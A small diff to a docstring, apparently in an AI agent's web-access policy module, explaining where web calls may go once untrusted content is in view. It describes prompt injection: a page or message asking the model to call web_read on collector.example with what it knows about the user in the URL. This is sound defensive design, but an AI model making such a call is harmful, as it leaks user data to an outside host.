@@ -1,4 +1,4 @@
-"""Where web calls may go once untrusted content is in view (design brief, "Web").
+"""Where web calls may go once untrusted content is in view.
 
 A page, a document or a forwarded message can ask the model to call
 `web_read("https://collector.example/c?d=<what you know about the user>")`: a read is a message
